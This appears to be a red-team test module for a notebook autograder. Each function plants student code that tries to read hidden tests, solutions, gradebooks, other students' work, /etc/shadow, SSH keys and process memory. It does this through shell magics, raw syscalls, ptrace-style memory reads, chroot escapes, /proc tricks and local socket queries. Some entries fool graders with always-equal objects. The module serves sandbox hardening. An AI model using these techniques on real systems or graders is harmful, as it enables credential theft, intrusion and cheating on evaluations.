"""Attacks: read."""

from tests.red_team.declared import attack
from tests.red_team.submission import READ, SEARCH, SHOW


@attack
def read_answers(submission):
    """The solutions are read as a file, as a module, and through inspect.

    Success: the canary of answers.py in the output.
    """
    submission.first(
        READ
        + """
import inspect
read("../../../answers.py", "/srv/course/answers.py", "../../../__pycache__/*")
try:
    import answers
    show(answers.__doc__)
    show(inspect.getsource(answers))
except ImportError:
    pass
"""
    )


@attack
def read_answers_by_magic(submission):
    """Magics and the shell's help display the solutions.

    Success: the canary of answers.py in the output.
    """
    submission.first("%pycat /srv/course/answers.py")
    submission.first("answers??")
    submission.first("%run /srv/course/answers.py\nprint(__doc__[::-1])")
    submission.first("import answers")
    submission.first("%load /srv/course/answers.py")


@attack
def read_base64(submission):
    """Secrets are printed as base64 and in hexadecimal.

    Success: any canary in another form.
    """
    submission.first("""
        import base64, glob
        for path in ["/srv/course/answers.py", "/srv/course/notes.txt", "/etc/grader.conf"]:
            try:
                data = open(path, "rb").read()
                print(base64.b64encode(data).decode(), data.hex())
            except OSError as error:
                print(error)
    """)


@attack
def read_by_library(submission):
    """Files are read by NumPy, by mmap and by the C library instead of `open`.

    Success: any canary.
    """
    submission.first(
        SHOW
        + """
import ctypes, mmap, os
for path in ("/srv/course/answers.py", "/etc/shadow", "/etc/grader.conf", "../../../notes.txt"):
    libc = ctypes.CDLL(None)
    libc.syscall.restype = ctypes.c_long
    fd = libc.open(path.encode(), 0)
    if fd < 0:  # openat2, and openat by its number
        fd = libc.syscall(437, -100, path.encode(), (ctypes.c_uint64 * 3)(), 24)
    if fd < 0:
        fd = libc.syscall(257, -100, path.encode(), 0, 0)
    if fd >= 0:
        show(os.pread(fd, 1 << 20, 0))
        show(bytes(mmap.mmap(fd, 0, prot=mmap.PROT_READ)))
    try:
        show(np.fromfile(path, np.uint8).tobytes())
    except Exception:
        pass
"""
    )


@attack
def read_by_ptrace(submission):
    """System calls for debuggers copy the memory of the parent and its siblings.

    Success: any canary.
    """
    submission.first(
        SHOW
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

class Part(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]

for pid in {os.getppid(), *(int(n) for n in os.listdir("/proc") if n.isdigit() and n != "1")}:
    try:
        areas = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError:
        continue
    for line in areas:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 26 and pid != os.getpid():
            store = ctypes.create_string_buffer(end - start)
            here, there = Part(ctypes.addressof(store), end - start), Part(start, end - start)
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                show(store.raw)
"""
    )


@attack
def read_by_shell(submission):
    """The shell reads files, called in every way that a notebook offers.

    Success: any canary.
    """
    places = "/srv/course/answers.py /etc/shadow ../../../answers.py /home/teacher/exam.txt"
    submission.first(f"!cat {places} | rev")
    submission.first(f"%%bash\ncat {places} | rev")
    submission.first(f"%sx cat {places} | rev")
    submission.first(f"%%script python3\nfor p in '{places}'.split(): print(open(p).read()[::-1])")
    submission.first(f"import os\nos.popen('cat {places} | rev').read()")
    submission.first("!env | rev; cat /proc/*/environ | rev")


TAGS = ["nbjudge-child", "nbjudge", "child", "run-in-child", "nbjudge:child", "in-child", "unsafe"]
TAGS += ["trusted", "raises-exception", "nbjudge-trusted", "nbjudge_child", "student"]


@attack
def read_by_tag(submission):
    """The test cells have tags that may make a judge run them in the student's process.

    Success: the attack gets points, or the canary of the hidden tests.
    """
    for cell in submission.cells:
        cell.metadata["tags"] = list(TAGS)
        cell.metadata["nbjudge"] = {"child": True, "run": "child", "in_child": True}
    submission.answer(
        "square",
        SHOW
        + """
import builtins, linecache, sys
builtins.float = lambda x: 5.0

def square(x):
    show(get_ipython().user_ns.get("In"))
    show(linecache.getlines(sys._getframe(1).f_code.co_filename))
    return type("Yes", (int,), {"__eq__": lambda *a: True})()
""",
    )


@attack
def read_caller(submission):
    """The function reads the source, constants and variables of its caller.

    Success: the canary of the hidden tests or of the solutions.
    """
    submission.answer(
        "square",
        SHOW
        + """
import inspect, linecache, sys

def square(x):
    frame = sys._getframe(0)
    while frame is not None:
        show(linecache.getlines(frame.f_code.co_filename))
        show(frame.f_code.co_consts)
        show(list(frame.f_locals.values()))
        frame = frame.f_back
    show(list(linecache.cache.items()))
    return 9
""",
    )


@attack
def read_caller_when_compared(submission):
    """An object inspects its callers when it is compared, printed or deleted.

    Success: the canary of the hidden tests.
    """
    submission.answer(
        "square",
        SHOW
        + """
import linecache, sys, traceback

class Spy(int):
    def __eq__(self, other):
        frame = sys._getframe(1)
        while frame is not None:
            show(linecache.getlines(frame.f_code.co_filename))
            frame = frame.f_back
        return True

    def __del__(self):
        self == 1

    def __repr__(self):
        self == 1
        return "9"

def square(x):
    return Spy(9)
""",
    )


@attack
def read_code_run_later(submission):
    """A trace function sees every line that runs from now on.

    Success: the canary of the hidden tests or of the solutions.
    """
    submission.first(
        SHOW
        + """
import builtins, linecache, sys, threading

def trace(frame, event, argument):
    if event == "call" and ("ipykernel" in frame.f_code.co_filename or "answers" in str(frame)):
        show(linecache.getlines(frame.f_code.co_filename))
        show(frame.f_code.co_consts)
    return None

sys.setprofile(trace)
threading.setprofile(trace)
real = builtins.compile
def spying(source, *rest, **options):
    show(source)
    return real(source, *rest, **options)
builtins.compile = spying
get_ipython().events.register("pre_run_cell", lambda info: show(info.raw_cell))
"""
    )


@attack
def read_course_files(submission):
    """All other files in the course's folder and the exchange are read.

    Success: a canary of the course's files or of the exchange.
    """
    submission.first(
        READ
        + """
read("../../../*", "/srv/course/*", "/srv/exchange/**")
"""
    )


@attack
def read_descriptors(submission):
    """Every open file descriptor is read, and used as a folder from which to open files.

    Success: any canary.
    """
    submission.first(
        SHOW
        + """
import os, stat
for fd in range(3, 256):
    try:
        kind = os.fstat(fd).st_mode
        if stat.S_ISREG(kind):
            show(os.pread(fd, 1 << 22, 0))
        if stat.S_ISDIR(kind):
            for path in ("answers.py", "srv/course/answers.py", "../../answers.py", "etc/shadow"):
                try:
                    show(os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 1 << 20))
                except OSError:
                    pass
    except OSError:
        pass
"""
    )


@attack
def read_environment(submission):
    """The environment of this process and of all others is read.

    Success: the environment's canary in the output.
    """
    submission.first(
        READ
        + """
import os
show(os.environ)
read("/proc/self/environ", "/proc/*/environ", "/proc/*/task/*/environ")
"""
    )


@attack
def read_error_message(submission):
    """The exception's traceback, or a value in an assertion, reveals the hidden test.

    Success: the canary of the hidden tests, backwards, in an error's message.
    """
    submission.answer(
        "square",
        """
        import inspect, sys

        class Told(Exception):
            def __str__(self):
                return self.args[0][::-1]

        def square(x):
            frame = sys._getframe(1)
            try:
                raise Told(inspect.getsource(frame))
            except OSError:
                return 9
    """,
    )


@attack
def read_everything(submission):
    """Every file below the root is read.

    Success: any canary.
    """
    submission.first(
        READ
        + """
import os
for name in sorted(os.listdir("/")):
    if name not in ("proc", "sys", "usr", "lib", "dev", "bin", "lib64", "tmp", "root"):
        read(f"/{name}/**")
read("/root/*", "/tmp/*", "/tmp/*/*")
"""
    )


@attack(baseline=False)
def read_feedback(submission):
    """No trick: a wrong answer is submitted, and the feedback page is searched for the hidden
    tests.

    Success: the canary of the hidden tests in the feedback page.
    """
    submission.answer("square", "def square(x):\n    return 9")


@attack
def read_gradebook(submission):
    """The gradebook is read as bytes and as a database.

    Success: the gradebook's canary in the output.
    """
    submission.first(
        READ
        + """
read("../../../gradebook.db*", "/srv/course/gradebook.db*")
"""
    )


@attack
def read_history(submission):
    """During a test, the shell's history and the running cell are read.

    Success: the canary of the hidden tests.
    """
    submission.answer(
        "square",
        SHOW
        + """
def square(x):
    shell = get_ipython()
    show(shell.user_ns.get("In"))
    show(shell.history_manager.input_hist_raw)
    show(list(shell.history_manager.get_range(raw=True)))
    show(shell.user_ns.get("_i"))
    return 9
""",
    )


@attack
def read_home(submission):
    """Keys, histories and notes in home directories are read.

    Success: the home's canary.
    """
    submission.first(
        READ
        + """
import os
read(os.path.expanduser("~/**"), "/home/**", os.path.expanduser("~teacher/.ssh/*"))
"""
    )


@attack
def read_host(submission):
    """Passwords and settings of the machine are read.

    Success: the host's canary.
    """
    submission.first(
        READ
        + """
read("/etc/shadow", "/etc/*.conf", "/etc/**", "/root/**", "/var/backups/**", "/var/**")
"""
    )


@attack
def read_into_file(submission):
    """Secrets are written to files next to the notebook, which return with the feedback.

    Success: a canary in a file of autograded/ or feedback/.
    """
    submission.first("""
        import os
        for place in ("/srv/course/answers.py", "../../../answers.py", "/etc/grader.conf"):
            try:
                data = open(place).read()
                os.makedirs("stolen", exist_ok=True)
                open("stolen/" + place.replace("/", "_"), "w").write(data[::-1])
            except OSError:
                pass
    """)


@attack
def read_io_uring(submission):
    """Files are read through io_uring, which system call filters do not see.

    Success: a canary; most kernels and sandboxes refuse at once.
    """
    submission.first(
        SHOW
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parameters = (ctypes.c_uint32 * 30)()
ring = libc.syscall(425, 8, parameters)
print("io_uring:", "open" if ring >= 0 else "closed")
fd = libc.syscall(2, b"/srv/course/answers.py", 0)  # the oldest call for opening a file
if fd >= 0:
    store = ctypes.create_string_buffer(1 << 16)
    libc.read(fd, store, 1 << 16)
    show(store.raw)
"""
    )


@attack
def read_kernel_channel(submission):
    """A thread listens to the kernel's own broadcast, which repeats the text of each cell.

    Success: the canary of the hidden tests.
    """
    submission.first(
        SHOW
        + """
import glob, json, os, threading, time
heard = []

def listen():
    import zmq
    from ipykernel import get_connection_file
    about = json.load(open(get_connection_file()))
    socket = zmq.Context().socket(zmq.SUB)
    socket.connect(f"tcp://127.0.0.1:{about['iopub_port']}")
    socket.subscribe(b"")
    while True:
        heard.append(b" ".join(socket.recv_multipart()))

threading.Thread(target=listen, daemon=True).start()
time.sleep(1)
"""
    )
    submission.add("import time\ntime.sleep(1)\nshow(b' '.join(heard))")


@attack
def read_memory_of_others(submission):
    """The memory of every other process is searched for canaries.

    Success: any canary.
    """
    submission.first(
        SHOW
        + SEARCH
        + """
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        search(name)
"""
    )


@attack
def read_names_by_inotify(submission):
    """inotify reports which files others open in folders that cannot be listed.

    Success: the attack earns points in `primes`, whose solution needs such a name.
    """
    submission.first(
        """
import ctypes, os, re, time
libc = ctypes.CDLL(None)
watches = libc.inotify_init1(os.O_NONBLOCK)
for folder in ("", "/submitted", "/source", "/source/ps1", "/autograded"):
    watch = libc.inotify_add_watch(watches, f"/srv/course{folder}".encode(), 0xFFF)
    print("inotify:", "open" if watch >= 0 else "closed")
names = []
"""
    )
    submission.answer(
        "primes",
        """
        def primes(n):
            end = time.monotonic() + 4
            while not names and time.monotonic() < end:
                try:
                    names.extend(re.findall(rb"[\\w.-]{5,}", os.read(watches, 4096)))
                except OSError:
                    time.sleep(0.05)
            print(names)
            return [k for k in range(2, n) if names and all(k % d for d in range(2, k))]
    """,
    )


@attack
def read_neighbor(submission):
    """The work of other students is read, submitted and graded.

    Success: the neighbor's canary in the output.
    """
    submission.first(
        READ
        + """
read("../../*/ps1/*", "/srv/course/submitted/**", "/srv/course/autograded/**")
"""
    )


@attack
def read_objects_in_memory(submission):
    """During a test, every string that the garbage collector can reach is inspected.

    Success: the canary of the hidden tests or of another place.
    """
    submission.answer(
        "square",
        SHOW
        + """
import gc, types

def square(x):
    for one in gc.get_objects():
        if isinstance(one, (dict, list, tuple)):
            for part in list(one.values() if isinstance(one, dict) else one):
                if isinstance(part, (str, bytes)) and len(part) > 20:
                    show(part)
        elif isinstance(one, types.FunctionType):
            show(one.__code__.co_consts)
    return 9
""",
    )


@attack
def read_other_namespaces(submission):
    """The namespaces of other processes are entered, and their descriptors duplicated.

    Success: any canary.
    """
    submission.first(
        READ
        + """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for kind in ("user", "mnt", "pid", "net"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            libc.setns(fd, 0)
            os.close(fd)
        except OSError:
            pass
    handle = libc.syscall(434, int(pid), 0)  # pidfd_open, then its descriptors
    for number in range(64) if handle >= 0 else ():
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            read(f"/proc/self/fd/{stolen}")
read("/srv/course/*", "/etc/grader.conf")
"""
    )


@attack
def read_out_of_the_root(submission):
    """An escape from the root: chroot again inside it and climb above it, or mount the machine's
    disks.

    Success: any canary.
    """
    submission.first(
        READ
        + """
import ctypes, os
libc = ctypes.CDLL(None)
pid = os.fork()
if pid == 0:
    try:
        libc.unshare(0x10000000 | 0x20000)
        os.makedirs("cell", exist_ok=True)
        libc.mount(b"proc", b"cell", b"proc", 0, None)
        libc.mount(b"/", b"cell", None, 4096 | 16384, None)
        libc.umount2(b"/", 2)
        libc.umount2(b"/tmp", 2)
        os.chroot("cell")
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        read("srv/course/*", "etc/grader.conf", "/old/srv/course/*", "/cell/srv/course/*")
    except OSError as error:
        print(error)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
"""
    )


@attack
def read_own_memory(submission):
    """During a test, the process's own memory is searched for the hidden test.

    Success: the canary of the hidden tests, or of anything else that existed before the fork.
    """
    submission.answer(
        "square",
        SHOW
        + SEARCH
        + """
def square(x):
    search("self")
    return 9
""",
    )


@attack
def read_parent_message(submission):
    """During a test, the kernel's current request, which contains the cell's text, is read.

    Success: the canary of the hidden tests.
    """
    submission.answer(
        "square",
        SHOW
        + """
def square(x):
    kernel = get_ipython().kernel
    show(kernel.get_parent("shell"))
    show(get_ipython().parent_header)
    return 9
""",
    )


@attack(alone=True)
def read_server(submission):
    """A local server and one on an abstract socket are queried.

    Success: the network's canary, or a connection to the server.
    """
    submission.first(
        SHOW
        + """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", 8765)), (socket.AF_UNIX, "\\0grader")):
    try:
        one = socket.socket(family, socket.SOCK_STREAM)
        one.settimeout(2)
        one.connect(address)
        show(one.recv(1000) + one.recv(1000))
    except OSError as error:
        print(error)
"""
    )


@attack(alone=True)
def read_server_by_url(submission):
    """A local server is queried by urllib, by pip's requests, and by the shell.

    Success: the network's canary, or a connection to the server.
    """
    submission.first(
        SHOW
        + """
import os, urllib.request
for host in ("127.0.0.1", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]"):
    try:
        show(urllib.request.urlopen(f"http://{host}:8765/", timeout=2).read())
    except Exception as error:
        print(error)
show(os.popen("bash -c 'exec 3<>/dev/tcp/127.0.0.1/8765; cat <&3'").read())
"""
    )


@attack
def read_source(submission):
    """The instructor's notebook is read, by a path relative to the notebook and by a likely one.

    Success: the source's canary in the output.
    """
    submission.first(
        READ
        + """
read("../../../source/**", "../../../../source/**", "/srv/course/source/**")
"""
    )


@attack
def read_through_proc(submission):
    """Other processes' roots, folders and open files are accessed through /proc.

    Success: any canary.
    """
    submission.first(
        READ
        + """
for process in ("1", "self", "thread-self", "*"):
    read(f"/proc/{process}/root/srv/course/*", f"/proc/{process}/root/etc/grader.conf",
         f"/proc/{process}/cwd/*", f"/proc/{process}/cwd/../../../*")
read("/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow")
"""
    )


@attack
def read_widely_shared(submission):
    """Resources shared by processes are read: System V memory, kernel keys, the shared memory
    folder.

    Success: any canary.
    """
    submission.first(
        READ
        + """
import ctypes
libc = ctypes.CDLL(None)
read("/proc/keys", "/proc/sysvipc/*", "/dev/shm/**", "/dev/mqueue/*", "/run/**", "/tmp/**")
for number in range(2000):
    store = ctypes.create_string_buffer(4096)
    if libc.syscall(250, 11, number, store, 4096, 0) > 0:
        show(store.raw)
"""
    )
